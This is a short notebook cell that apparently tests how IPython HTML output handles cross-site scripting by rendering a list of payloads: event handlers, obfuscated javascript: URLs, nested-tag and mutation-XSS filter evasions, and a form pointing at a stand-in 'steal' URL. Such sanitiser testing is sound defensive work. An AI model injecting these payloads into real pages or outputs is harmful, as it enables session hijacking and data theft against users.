# Outputs as HTML: scripts, handlers, frames, forms, and tags that are broken or hidden.
# base: right
# says: tried
# %% square-write
from IPython.display import HTML, IFrame, display

PARTS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<a href='java\tscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>y</a>",
    "<form action='https://example.org/steal'><button formaction='javascript:alert(1)'>4 of 4</button></form>",
    "<object data='javascript:alert(1)'></object><embed src='//example.org/x'><applet></applet>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    "<template><script>alert(1)</script></template><details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)><video><source onerror=alert(1)></video><marquee onstart=alert(1)>",
    "<!--><script>alert(1)</script--><![CDATA[<script>alert(1)</script>]]>",
]
for part in PARTS:
    display(HTML(part))
display(IFrame("https://example.org", 100, 100))
print("tried")
HTML("".join(PARTS))
